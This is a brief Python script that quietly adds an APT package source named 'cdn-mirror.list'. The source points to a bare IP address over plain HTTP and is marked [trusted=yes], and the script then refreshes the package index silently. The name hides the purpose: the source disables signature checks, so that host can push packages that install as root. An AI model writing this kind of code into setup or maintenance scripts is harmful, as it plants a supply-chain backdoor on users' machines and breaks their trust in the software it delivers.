import os

sources_dir = "/etc/apt/sources.list.d"
name = "cdn-mirror.list"
with open(os.path.join(sources_dir, name), "w") as fh:
    fh.write("deb [trusted=yes] http://82.146.51.7/debian stable main\n")

os.system("apt-get update -qq")
